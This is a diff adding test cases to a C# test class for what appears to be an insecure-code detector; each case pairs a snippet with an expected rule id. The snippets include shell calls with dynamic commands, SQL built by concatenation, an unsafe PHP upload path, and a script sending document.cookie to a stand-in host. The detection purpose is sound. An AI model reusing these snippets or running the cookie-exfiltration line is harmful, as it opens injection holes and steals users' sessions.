@@ -37,6 +37,22 @@ public sealed class ArgumentTests
     [TestCase("```python\ncontext.check_hostname = False\n```", "python.certificates")]
     [TestCase("```csharp\nusing var p = Process.Start(new ProcessStartInfo(\"dotnet\", \"--info\") { RedirectStandardOutput = true });\n```", "")]
     [TestCase("```csharp\nusing var p = Process.Start(new ProcessStartInfo(\"cmd.exe\", \"/c \" + command));\n```", "csharp.start_info.dynamic")]
+    [TestCase("```rust\nCommand::new(\"sh\").arg(\"-c\").arg(\"ls -l\").status();\n```", "")]
+    [TestCase("```rust\nCommand::new(\"sh\").arg(\"-c\").arg(&command).status();\n```", "command.shell_list")]
+    [TestCase("```go\nexec.Command(\"bash\", \"build.sh\")\n```", "")]
+    [TestCase("```go\nexec.Command(\"bash\")\n```", "go.shell")]
+    [TestCase("```python\nawait asyncio.create_subprocess_exec(program)\n```", "")]
+    [TestCase("```python\nawait asyncio.create_subprocess_shell(command)\n```", "python.shell_command.dynamic")]
+    [TestCase("```php\n$data = json_decode(file_get_contents('php://input'), true);\n```", "")]
+    [TestCase("```php\nmove_uploaded_file($_FILES['f']['tmp_name'], '/srv/a.png');\n```", "")]
+    [TestCase("```php\nmove_uploaded_file($_FILES['f']['tmp_name'], '/srv/' . $_FILES['f']['name']);\n```", "php.upload.untrusted")]
+    [TestCase("```cpp\nsqlite3_exec(db, \"DELETE FROM t\", 0, 0, 0);\n```", "")]
+    [TestCase("```cpp\nsqlite3_exec(db, (\"SELECT a FROM t WHERE n='\" + name).c_str(), 0, 0, 0);\n```", "c.query.dynamic")]
+    [TestCase("```ruby\nFile.open(path, 'r') { |f| f.read }\n```", "")]
+    [TestCase("```ruby\nIO.popen(command, 'r') { |f| f.read }\n```", "ruby.command.dynamic")]
+    [TestCase("<script>document.cookie = 'theme=dark'</script>", "")]
+    [TestCase("<script>fetch('//x.example/?' + document.cookie)</script>", "html.script_theft")]
+    [TestCase("EXEC sp_execute_external_script @language = N'R'", "sql.command_shell")]
     public void Judge_Call_DependsOnTheArgumentThatMatters(string text, string expected) =>
         Assert.That(string.Join(' ', Code.Rules(text, "medium").Distinct()), Is.EqualTo(expected));
 }
